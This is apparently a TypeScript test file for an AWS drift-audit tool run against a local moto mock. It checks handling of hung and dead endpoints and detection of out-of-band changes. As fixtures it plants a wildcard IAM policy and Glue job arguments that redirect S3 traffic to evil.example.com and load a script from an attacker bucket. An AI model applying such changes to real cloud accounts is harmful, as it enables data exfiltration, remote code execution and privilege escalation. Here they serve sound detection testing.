/**
 * The live audit under faults and out-of-band changes it used to miss: hung and dead endpoints
 * (timeouts, early stop, no false "missing"), inline role policies, job arguments, and a readable
 * diff. Against moto's AWS server on loopback, like tests/audit/audit.test.ts.
 */
import { strict as assert } from "assert";
import * as net from "net";
import { CreateJobCommand, DeleteJobCommand, GetJobCommand, GetTagsCommand } from "@aws-sdk/client-glue";
import { PutRolePolicyCommand } from "@aws-sdk/client-iam";
import { auditText } from "../../tools/audit/report";
import { describeDiff } from "../../tools/audit/diffText";
import { applyOutOfBandChanges } from "../../tools/auditDemo/seed";
import {
  ACCOUNT,
  auditDemoStack,
  demoClients,
  faultProxy,
  runDemoAudit,
  seededMoto,
} from "../support/liveAudit";

describe("live audit under faults (moto on loopback)", function () {
  this.timeout(300000);
  const seeded = seededMoto();

  /** A proxy to moto that never answers Glue calls: a hung endpoint for the Glue API. */
  const hangingGlue = () =>
    faultProxy(seeded.moto.endpoint, (req) =>
      String(req.headers["x-amz-target"] ?? "").startsWith("AWSGlue."),
    );

  it("a hung endpoint times out: the failed reads are listed and nothing is called missing", async () => {
    const hang = await hangingGlue();
    try {
      const started = Date.now();
      const { r } = await runDemoAudit(hang.url, { requestTimeoutMs: 300, maxAttempts: 1 });
      assert.ok(Date.now() - started < 60_000, `took ${Date.now() - started} ms`);
      assert.equal(r.exitCode, 2);
      assert.ok(
        r.failures.some((f) => f.operation === "glue:GetJobs"),
        r.failures.map((f) => f.operation).join(),
      );
      const glueMissing = r.findings.filter((f) => f.kind === "missing" && f.type.startsWith("aws:glue/"));
      assert.deepEqual(glueMissing, [], "a type whose listing failed is never reported missing");
    } finally {
      hang.close();
    }
  });

  it("a dead endpoint stops the audit early instead of retrying every call", async () => {
    const dead = await new Promise<number>((resolve) => {
      const s = net.createServer();
      s.listen(0, "127.0.0.1", () => {
        const port = (s.address() as net.AddressInfo).port;
        s.close(() => resolve(port));
      });
    });
    const started = Date.now();
    const clients = demoClients(`http://127.0.0.1:${dead}`);
    const r = await auditDemoStack(clients).catch((e: Error) => e);
    assert.ok(Date.now() - started < 60_000, `took ${Date.now() - started} ms`);
    // Only the calls in flight when the endpoint was declared dead were sent; the rest were refused.
    assert.ok(clients.calls.length <= 12, `${clients.calls.length} calls sent to a dead endpoint`);
    if (!(r instanceof Error)) {
      assert.equal(r.exitCode, 2);
      assert.deepEqual(
        r.findings.filter((f) => f.kind === "missing"),
        [],
      );
      assert.ok(r.failures.some((f) => /stopped answering/.test(f.message)));
    } else assert.match(r.message, /could not|stopped answering|ECONNREFUSED/);
  });

  it("finds an inline role policy and out-of-band job arguments, and shows a readable diff", async () => {
    const { c, project: P } = seeded;
    await applyOutOfBandChanges(c, P);
    const jobName = `${P}-job-silver-to-gold`;
    const job = (await c.glue.send(new GetJobCommand({ JobName: jobName }))).Job;
    const jobArn = `arn:aws:glue:${ACCOUNT.region}:${ACCOUNT.accountId}:job/${jobName}`;
    assert.ok(job?.Role, "the seeded job has a role");
    const roleName = String(job.Role).split("/").pop() as string;
    await c.iam.send(
      new PutRolePolicyCommand({
        RoleName: roleName,
        PolicyName: "debug-access",
        PolicyDocument: JSON.stringify({
          Version: "2012-10-17",
          Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }],
        }),
      }),
    );
    // moto has no UpdateJob: replace the job as an out-of-band console edit would leave it.
    const tags = (await c.glue.send(new GetTagsCommand({ ResourceArn: jobArn }))).Tags;
    await c.glue.send(new DeleteJobCommand({ JobName: jobName }));
    await c.glue.send(
      new CreateJobCommand({
        Name: jobName,
        Tags: tags,
        Role: job.Role,
        Command: job.Command,
        GlueVersion: job.GlueVersion,
        WorkerType: job.WorkerType,
        NumberOfWorkers: job.NumberOfWorkers,
        Timeout: job.Timeout,
        MaxRetries: job.MaxRetries,
        SecurityConfiguration: job.SecurityConfiguration,
        Connections: job.Connections,
        NonOverridableArguments: job.NonOverridableArguments,
        DefaultArguments: {
          ...job.DefaultArguments,
          "--conf": "spark.hadoop.fs.s3a.endpoint=evil.example.com",
          "--scriptLocation": "s3://attacker-bucket/x.py",
        },
      }),
    );
    const { r } = await runDemoAudit(seeded.moto.endpoint);
    assert.deepEqual(r.failures, []);
    const inline = r.findings.filter((f) => f.name === `${roleName}|debug-access`);
    assert.ok(
      inline.some((f) => f.kind === "shadow"),
      JSON.stringify(inline),
    );
    assert.ok(
      inline.some((f) => f.kind === "violation"),
      JSON.stringify(inline),
    );
    const drift = r.findings.find((f) => f.kind === "drifted" && f.name === jobName);
    assert.deepEqual(
      drift?.fields?.map((f) => f.field),
      ['defaultArguments["--conf"]', 'defaultArguments["--scriptLocation"]'],
    );

    const text = auditText(r);
    assert.doesNotMatch(text, /\\"/, `no JSON inside JSON:\n${text}`);
    assert.match(text, /defaultArguments\["--conf"\]: desired \(absent\), live "spark\.hadoop/);
    assert.match(text, /Statement\[0\]\.Action: desired .*, live "s3:\*"/);
    assert.match(
      text,
      /ingress:\n\s+\+ \{"protocol":"tcp","fromPort":22,"toPort":22,"source":"cidrBlocks:0\.0\.0\.0\/0"\}/,
    );
  });
});

describe("readable audit diffs", () => {
  it("compares documents path by path and sets by member", () => {
    assert.deepEqual(
      describeDiff(
        { Statement: [{ Action: ["s3:GetObject"], Resource: "arn:aws:s3:::b/*" }] },
        '{"Statement":[{"Action":"*","Resource":"arn:aws:s3:::b/*"}]}',
      ),
      ['Statement[0].Action: desired ["s3:GetObject"], live "*"'],
    );
    assert.deepEqual(describeDiff(["a", "b"], ["b", "c"]), [
      '+ "c" (live only)',
      '- "a" (desired, not live)',
    ]);
    assert.deepEqual(describeDiff(4, 60), ["desired 4, live 60"]);
  });
});
